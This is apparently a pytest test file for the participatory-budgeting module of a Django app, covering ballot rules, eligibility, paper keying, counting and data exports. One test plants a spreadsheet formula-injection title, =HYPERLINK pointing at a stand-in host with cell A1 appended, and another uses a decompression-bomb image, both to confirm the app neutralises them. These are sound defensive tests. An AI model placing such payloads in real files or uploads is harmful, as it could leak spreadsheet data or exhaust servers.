from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from palabre.budgets import selectors, services
from palabre.budgets.models import Ballot, Budget, InvitationCode, PaperEntry, Project
from palabre.contributions.services import ActivityClosed, mediation_start
from palabre.organizations.roles import Role
from palabre.processes.models import Phase
from palabre_analysis import budget as engine

from ..factories import UserFactory, make_member
from .conftest import move_to_phase


@pytest.fixture(autouse=True)
def _english():
    """Messages are matched in English (the msgids); pages are tested in French."""
    with translation.override("en"):
        yield


def ids(pb, *titles):
    return {pb["projects"][t].pk: 1 for t in titles}


def test_a_knapsack_ballot_is_one_per_voter_and_changeable(pb, citizen):
    town = pb["town"]
    services.ballot_cast(envelope=town, voter=citizen, selections=ids(pb, "Aire de jeux", "Bancs"))
    services.ballot_cast(envelope=town, voter=citizen, selections=ids(pb, "Pistes cyclables"))
    ballot = Ballot.objects.get(envelope=town, voter=citizen)
    assert [c.project.title for c in ballot.choices.all()] == ["Pistes cyclables"]
    assert Ballot.objects.count() == 1


def test_a_ballot_over_the_envelope_or_outside_it_is_refused(pb, citizen):
    with pytest.raises(ValidationError, match="more than the envelope's") as error:
        services.ballot_cast(
            envelope=pb["town"],
            voter=citizen,
            selections=ids(pb, "Aire de jeux", "Pistes cyclables"),
        )
    assert "110\u202f000 €" in error.value.messages[0]
    with pytest.raises(ValidationError, match="not on this envelope's ballot"):
        services.ballot_cast(
            envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs", "Fontaine")
        )
    with pytest.raises(ValidationError, match="at least one project"):
        services.ballot_cast(envelope=pb["town"], voter=citizen, selections={})
    assert not Ballot.objects.exists()


def test_a_resident_votes_in_one_neighbourhood_envelope_only(pb, citizen, org_a):
    from palabre.organizations.models import Neighbourhood

    south = Neighbourhood.objects.create(organization=org_a, name="Sud BP", slug="sud-bp")
    budget = pb["budget"]
    other = services.envelope_save(
        budget=budget, name="Quartier Sud", amount=10_000, neighbourhood=south
    )
    Project.objects.create(
        budget=budget,
        envelope=other,
        title="Banc",
        description="x",
        cost=1_000,
        status=Project.Status.ACCEPTED,
    )
    services.ballot_cast(envelope=pb["local"], voter=citizen, selections=ids(pb, "Fontaine"))
    services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"))
    banc = other.projects.get()
    with pytest.raises(ValidationError, match="already voted in the envelope “Quartier Nord”"):
        services.ballot_cast(envelope=other, voter=citizen, selections={banc.pk: 1})
    services.ballot_withdraw(envelope=pb["local"], voter=citizen)
    services.ballot_cast(envelope=other, voter=citizen, selections={banc.pk: 1})
    assert Ballot.objects.filter(voter=citizen).count() == 2


def test_eligibility_is_checked_and_not_stored(pb, citizen):
    budget = pb["budget"]
    services.budget_update(budget=budget, min_age=16, postcodes="75001, 75002", codes_required=True)
    (code,) = services.codes_generate(budget=budget, count=1)
    cast = {"envelope": pb["town"], "voter": citizen, "selections": ids(pb, "Bancs")}
    with pytest.raises(ValidationError, match="at least 16"):
        services.ballot_cast(**cast, postcode="75001", code=code)
    with pytest.raises(ValidationError, match="residents of: 75001, 75002"):
        services.ballot_cast(**cast, age_confirmed=True, postcode="69001", code=code)
    with pytest.raises(ValidationError, match="not valid or already used"):
        services.ballot_cast(**cast, age_confirmed=True, postcode="75001", code="NOPE")
    services.ballot_cast(**cast, age_confirmed=True, postcode="75 001", code=code.lower())
    other = UserFactory()
    with pytest.raises(ValidationError, match="already used"):
        services.ballot_cast(
            envelope=pb["town"],
            voter=other,
            selections=ids(pb, "Bancs"),
            age_confirmed=True,
            postcode="75001",
            code=code,
        )
    # the code is spent once: the same voter's other envelope needs no new code
    services.ballot_cast(
        envelope=pb["local"],
        voter=citizen,
        selections=ids(pb, "Fontaine"),
        age_confirmed=True,
        postcode="75001",
    )
    fields = {f.name for f in Ballot._meta.get_fields()}
    assert not fields & {"postcode", "age", "birth_date", "address"}


def test_no_ballot_outside_the_vote_phase(pb, citizen):
    move_to_phase(pb["budget"].process, Phase.Kind.RESTITUTION)
    with pytest.raises(ActivityClosed, match="vote phase"):
        services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"))


@pytest.mark.parametrize(
    ("method", "selections", "error"),
    [
        ("approval", {"Aire de jeux": 1, "Bancs": 1, "Pistes cyclables": 1}, "2 projects at most"),
        ("cumulative", {"Aire de jeux": 8, "Bancs": 3}, "you have 10 to share"),
        ("ranking", {"Aire de jeux": 1, "Bancs": 3}, "without gaps"),
    ],
)
def test_ballot_methods_check_their_rules(pb, citizen, method, selections, error):
    services.budget_update(budget=pb["budget"], method=method, max_projects=2)
    chosen = {pb["projects"][t].pk: n for t, n in selections.items()}
    with pytest.raises(ValidationError, match=error):
        services.ballot_cast(envelope=pb["town"], voter=citizen, selections=chosen)


def test_paper_ballots_need_two_agreeing_keyings_by_two_people(pb, org_a, agent_a):
    second = make_member(org_a, Role.MEDIATOR)
    third = make_member(org_a, Role.AGENT)
    town = pb["town"]
    entry = services.paper_ballot_enter(
        envelope=town, paper_ref="A-001", selections=ids(pb, "Bancs"), entered_by=agent_a
    )
    assert entry.status == PaperEntry.Status.PENDING and not Ballot.objects.exists()
    with pytest.raises(ValidationError, match="another person keys it"):
        services.paper_ballot_enter(
            envelope=town, paper_ref="A-001", selections=ids(pb, "Bancs"), entered_by=agent_a
        )
    entry = services.paper_ballot_enter(
        envelope=town,
        paper_ref="A-001",
        selections=ids(pb, "Bancs", "Aire de jeux"),
        entered_by=second,
    )
    assert entry.status == PaperEntry.Status.CONFLICT and not Ballot.objects.exists()
    entry = services.paper_ballot_enter(
        envelope=town, paper_ref="A-001", selections=ids(pb, "Bancs"), entered_by=third
    )
    assert entry.status == PaperEntry.Status.CONFIRMED
    ballot = Ballot.objects.get()
    assert ballot.channel == "paper" and ballot.voter is None
    assert [c.project.title for c in ballot.choices.all()] == ["Bancs"]
    with pytest.raises(ValidationError, match="already counted"):
        services.paper_ballot_enter(
            envelope=town, paper_ref="A-001", selections=ids(pb, "Bancs"), entered_by=second
        )
    assert Ballot.objects.count() == 1


def test_citizens_cannot_key_paper_ballots(pb, citizen):
    with pytest.raises(ValidationError, match="Only an agent or a mediator"):
        services.paper_ballot_enter(
            envelope=pb["town"], paper_ref="1", selections=ids(pb, "Bancs"), entered_by=citizen
        )


def test_assisted_ballots_are_recorded_in_the_mediators_session(pb, org_a):
    mediator = make_member(org_a, Role.MEDIATOR)
    session = mediation_start(organization=org_a, mediator=mediator, place="Marché")
    kwargs = {
        "envelope": pb["town"],
        "session": session,
        "mediator": mediator,
        "selections": ids(pb, "Jardin partagé"),
        "paper_ref": "T-7",
    }
    with pytest.raises(ValidationError, match="checked their choices"):
        services.assisted_ballot_record(**kwargs, confirmed=False)
    ballot = services.assisted_ballot_record(**kwargs, confirmed=True)
    assert ballot.channel == "assisted" and ballot.mediation == session
    with pytest.raises(ValidationError, match="already counted"):
        services.assisted_ballot_record(**kwargs, confirmed=True)


def test_merge_carries_ideas_and_supports_and_is_logged(pb, agent_a, citizen):
    from palabre.contributions.services import support_set

    from ..factories import make_contribution

    budget = pb["budget"]
    move_to_phase(budget.process, Phase.Kind.CONTRIBUTION)
    one = make_contribution(budget.process, title="Un skatepark", author=citizen)
    two = make_contribution(budget.process, title="Skatepark au parc")
    support_set(idea=one, user=UserFactory(), supported=True)
    support_set(idea=two, user=UserFactory(), supported=True)
    a = services.project_create(
        budget=budget, actor=agent_a, title="Skatepark", description="x", ideas=[one]
    )
    b = services.project_create(
        budget=budget, actor=agent_a, title="Skate", description="y", ideas=[two]
    )
    services.project_merge(projects=[a, b], into=a, actor=agent_a)
    b.refresh_from_db()
    assert b.status == "merged" and b.merged_into == a
    assert set(a.ideas.all()) == {one, two}
    assert selectors.projects_of(budget=budget).get(pk=a.pk).supports == 2  # distinct people
    assert [e.kind for e in b.events.all()][-1] == "merged"


def test_the_ballot_list_is_frozen_once_ballots_are_cast(pb, agent_a, citizen):
    services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"))
    with pytest.raises(ValidationError, match="can no longer change"):
        services.project_analyse(
            project=pb["projects"]["Bancs"],
            actor=agent_a,
            status="rejected",
            envelope=pb["town"],
            cost=10_000,
            rejection_reason="Non",
        )


def test_rejection_needs_a_public_reason_and_publishing_needs_projects(pb, agent_a):
    budget = pb["budget"]
    project = services.project_create(
        budget=budget, actor=agent_a, title="Piscine", description="Une piscine"
    )
    with pytest.raises(ValidationError, match="reason is public"):
        services.project_analyse(
            project=project, actor=agent_a, status="rejected", envelope=None, cost=None
        )
    empty = services.envelope_save(budget=budget, name="Vide", amount=1_000)
    with pytest.raises(ValidationError, match="“Vide” has no project"):
        services.ballot_publish(budget=empty.budget)


def test_counting_stores_both_rules_and_matches_the_engine(pb, org_a):
    town = pb["town"]
    voters = [UserFactory() for _ in range(10)]
    for voter in voters[:7]:
        services.ballot_cast(
            envelope=town, voter=voter, selections=ids(pb, "Aire de jeux", "Jardin partagé")
        )
    for voter in voters[7:]:
        services.ballot_cast(envelope=town, voter=voter, selections=ids(pb, "Bancs"))
    budget = pb["budget"]
    services.tallies_compute(budget_id=budget.pk)
    (town_result, local_result) = selectors.results_of(budget=budget)
    assert town_result.ballots == 10 and local_result.ballots == 0
    by_title = {row.project.title: row for row in town_result.rows}
    # greedy: Aire de jeux (7 votes, 60 000 €) and Jardin partagé (7, 40 000 €) spend it all
    assert by_title["Aire de jeux"].greedy and by_title["Jardin partagé"].greedy
    assert not by_title["Bancs"].greedy and by_title["Bancs"].left_at_turn == 0
    # equal shares: the three Bancs voters hold 30 000 € and buy it; the seven others'
    # 70 000 € buy Aire de jeux and cannot pay for Jardin partagé as well
    assert by_title["Bancs"].mes and by_title["Aire de jeux"].mes
    assert not by_title["Jardin partagé"].mes
    assert town_result.differ
    election = selectors.election_of(envelope=town)
    expected = engine.count(election, "mes").selected
    assert town_result.chosen("mes") and {
        selectors.project_key(r.project.pk) for r in town_result.chosen("mes")
    } == set(expected)
    # the open data file counts the same
    again = engine.read_pb(__import__("io").StringIO(selectors.pb_export(envelope=town)))
    assert engine.count(again, "mes").selected == expected
    assert budget.rule == Budget.Rule.GREEDY


def test_ballots_are_in_the_personal_data_export_and_survive_deletion(pb, citizen):
    from palabre.accounts.services import user_delete_account, user_export_data

    services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"))
    data = user_export_data(user=citizen)
    assert data["ballots"][0]["envelope"] == "Toute la ville"
    assert data["ballots"][0]["projects"] == [{"project": "Bancs", "points": 1}]
    user_delete_account(user=citizen)
    ballot = Ballot.objects.get()
    assert ballot.voter is None and ballot.choices.count() == 1


def _second_code_only_budget(org_a, agent_a):
    from .conftest import build_pb

    other = build_pb(org_a, agent_a)
    services.budget_update(budget=other["budget"], codes_required=True)
    return other


def test_an_invitation_code_opens_one_budget_only(pb, org_a, agent_a, citizen):
    """Finding 1: a code used in one budget must not open every other code-only budget, and
    a person can use one code in each budget (not one in their whole life)."""
    services.budget_update(budget=pb["budget"], codes_required=True)
    other = _second_code_only_budget(org_a, agent_a)
    (code,) = services.codes_generate(budget=pb["budget"], count=1)
    (other_code,) = services.codes_generate(budget=other["budget"], count=1)
    services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"), code=code)
    other_ids = {other["projects"]["Bancs"].pk: 1}
    with pytest.raises(ValidationError, match="not valid or already used"):
        services.ballot_cast(envelope=other["town"], voter=citizen, selections=other_ids)
    with pytest.raises(ValidationError, match="not valid or already used"):  # wrong budget
        services.ballot_cast(envelope=other["town"], voter=citizen, selections=other_ids, code=code)
    services.ballot_cast(
        envelope=other["town"], voter=citizen, selections=other_ids, code=other_code
    )
    assert Ballot.objects.filter(voter=citizen).count() == 2
    assert set(InvitationCode.objects.values_list("used_by", flat=True)) == {citizen.pk}


def _count_and_close(pb):
    budget = pb["budget"]
    services.tallies_compute(budget_id=budget.pk)
    move_to_phase(budget.process, Phase.Kind.RESTITUTION)
    budget.refresh_from_db()
    return budget


def test_a_ballot_keyed_after_the_count_makes_the_count_stale(pb, org_a, agent_a, citizen):
    """Finding 2: a paper ballot keyed after the count must not let the old count be
    published."""
    services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"))
    budget = _count_and_close(pb)
    assert budget.counted_at and not selectors.count_is_stale(budget=budget)
    second = make_member(org_a, Role.MEDIATOR)
    services.paper_ballot_enter(
        envelope=pb["town"], paper_ref="P-1", selections=ids(pb, "Bancs"), entered_by=agent_a
    )
    budget.refresh_from_db()
    assert budget.counted_at  # a first keying alone changes no ballot
    services.paper_ballot_enter(
        envelope=pb["town"], paper_ref="P-1", selections=ids(pb, "Bancs"), entered_by=second
    )
    budget.refresh_from_db()
    assert budget.counted_at is None and selectors.count_is_stale(budget=budget)
    with pytest.raises(ValidationError, match="Count the ballots"):
        services.results_publish(budget=budget)
    assert services.tallies_compute(budget_id=budget.pk) == 2
    budget = services.results_publish(budget=budget)
    assert budget.results_published_at
    (town, _local) = selectors.results_of(budget=budget)
    assert town.ballots == 2


def test_results_are_refused_when_the_count_does_not_match_the_ballots(pb, citizen):
    """Defence in depth: even with `counted_at` set, a count whose ballot totals differ from
    the ballots now stored is not published."""
    services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"))
    budget = _count_and_close(pb)
    Ballot.objects.create(envelope=pb["town"], channel="paper", paper_ref="X")  # behind its back
    with pytest.raises(ValidationError, match="Ballots changed since the count"):
        services.results_publish(budget=budget)


def test_public_ballot_numbers_are_shuffled_by_a_secret_per_count(pb):
    """Finding 10: ballots numbered in the order cast let someone who saw who voted when
    match a person to a ballot; the public files number them in a secret shuffled order."""
    titles = ["Aire de jeux", "Pistes cyclables", "Bancs", "Jardin partagé"]
    voters = [UserFactory() for _ in range(40)]
    for i, voter in enumerate(voters):
        services.ballot_cast(envelope=pb["town"], voter=voter, selections=ids(pb, titles[i % 4]))
    budget = _count_and_close(pb)
    key = budget.ballot_order_key
    assert len(key) == 64
    lines = selectors.ballots_csv(envelope=pb["town"]).splitlines()[1:]
    cast_order = [selectors.project_key(pb["projects"][titles[i % 4]].pk) for i in range(40)]
    listed = [line.split(",")[2] for line in lines]
    assert sorted(listed) == sorted(cast_order) and listed != cast_order
    # the .pb file numbers the same ballots in the same order
    election = engine.read_pb(io.StringIO(selectors.pb_export(envelope=pb["town"])))
    assert [next(iter(b)) for b in election.ballots] == listed
    # a new count draws a new secret
    services.tallies_compute(budget_id=budget.pk)
    budget.refresh_from_db()
    assert budget.ballot_order_key != key


def test_budget_csv_files_never_start_a_formula(pb, agent_a, citizen):
    """Finding 8: project titles are free text; the public results CSV keeps them inert."""
    project = pb["projects"]["Bancs"]
    project.title = '=HYPERLINK("https://exemple.invalid/?"&A1;"Voir")'
    project.save(update_fields=["title"])
    services.ballot_cast(envelope=pb["town"], voter=citizen, selections=ids(pb, "Bancs"))
    budget = _count_and_close(pb)
    rows = selectors.csv_export(budget=budget)
    assert "'=HYPERLINK" in rows and ",=HYPERLINK" not in rows


def test_a_works_photo_that_is_a_decompression_bomb_is_refused_on_its_field(pb, agent_a):
    import datetime as dt

    from django.core.files.uploadedfile import SimpleUploadedFile

    from ..test_core_images import declared_png

    bomb = SimpleUploadedFile("chantier.png", declared_png(30_000, 30_000))
    with pytest.raises(ValidationError) as error:
        services.works_update_add(
            project=pb["projects"]["Bancs"],
            author=agent_a,
            status=Project.Works.WORKS,
            date=dt.date.today(),
            text="Le chantier commence.",
            photo=bomb,
            photo_alt="Le chantier",
        )
    assert error.value.message_dict == {
        "photo": ["This image is too large: 40 megapixels at most."]
    }


def test_the_pb_file_of_a_cumulative_vote_gives_ballots_as_votes_and_points_as_score(pb):
    """Pabulib's `votes` counts the ballots that chose a project; points go to `score`. The
    strict reader then finds nothing to report in our own file."""
    services.budget_update(budget=pb["budget"], method=Budget.Method.CUMULATIVE, points=5)
    bancs, aire = pb["projects"]["Bancs"].pk, pb["projects"]["Aire de jeux"].pk
    for points in ({bancs: 3, aire: 2}, {bancs: 5}):
        services.ballot_cast(envelope=pb["town"], voter=UserFactory(), selections=points)
    _count_and_close(pb)
    election = engine.read_pb(io.StringIO(selectors.pb_export(envelope=pb["town"])))
    projects = election.projects
    assert projects[selectors.project_key(bancs)].extra["votes"] == "2"
    assert projects[selectors.project_key(bancs)].extra["score"] == "8"
    assert projects[selectors.project_key(aire)].extra["score"] == "2"
    assert election.issues == []
